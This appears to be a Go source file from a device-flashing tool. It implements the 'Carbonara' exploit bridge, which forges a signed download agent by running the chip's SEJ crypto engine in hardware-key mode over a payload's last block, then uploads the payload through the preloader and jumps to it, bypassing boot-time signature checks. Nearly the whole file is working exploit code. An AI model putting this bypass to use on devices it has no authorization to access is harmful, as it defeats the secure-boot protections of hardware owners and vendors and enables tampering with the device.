// internal/exploit/carbonara.go
// Carbonara bridge (SEJ, spec.md §4.8): forges a signed DA by computing
// the hash send_da expects with the device's own SEJ engine against its
// OTP-resident secrets, rather than against any key the host possesses.
package exploit

import (
	"context"

	"flashcore/internal/hwcrypto"
	"flashcore/internal/protocol"
)

// Carbonara implements Bridge over a Preloader session and the chip's SEJ
// engine.
type Carbonara struct {
	Preloader *protocol.Preloader
	SEJ       *hwcrypto.SEJ
	DAAddr    uint32

	forgedSig []byte
}

// NewCarbonara constructs a Carbonara bridge.
func NewCarbonara(pre *protocol.Preloader, sej *hwcrypto.SEJ, daAddr uint32) *Carbonara {
	return &Carbonara{Preloader: pre, SEJ: sej, DAAddr: daAddr}
}

// Prepare computes the forged signature over payload ahead of time is not
// possible here (the payload isn't known yet), so Prepare only confirms
// SEJ answers in HWKey mode — the forged signature itself is computed in
// RunPayload once the payload bytes are known.
func (c *Carbonara) Prepare(ctx context.Context) error {
	var probe [16]byte
	_, err := c.SEJ.Encrypt(ctx, hwcrypto.SEJHWKey, nil, probe[:], probe[:])
	return err
}

// RunPayload forges the signature send_da's verification expects by
// running SEJ in hardware-key mode over payload's trailing block (spec.md
// §4.8: "forge a signed DA by computing the required hash with the
// device's own SEJ against OTP secrets"), then uploads payload with that
// forged signature appended.
func (c *Carbonara) RunPayload(ctx context.Context, payload []byte) (PayloadResult, error) {
	var lastBlock [16]byte
	if len(payload) >= 16 {
		copy(lastBlock[:], payload[len(payload)-16:])
	} else {
		copy(lastBlock[:], payload)
	}
	var iv [16]byte
	sig, err := c.SEJ.Encrypt(ctx, hwcrypto.SEJHWKey, nil, iv[:], lastBlock[:])
	if err != nil {
		return PayloadResult{}, err
	}
	c.forgedSig = sig

	signed := append(append([]byte(nil), payload...), sig...)
	if err := c.Preloader.SendDA(ctx, c.DAAddr, uint32(len(sig)), signed); err != nil {
		return PayloadResult{}, err
	}
	if err := c.Preloader.JumpDA(ctx, c.DAAddr); err != nil {
		return PayloadResult{}, err
	}
	return PayloadResult{BytesSent: len(signed), JumpAddr: c.DAAddr}, nil
}
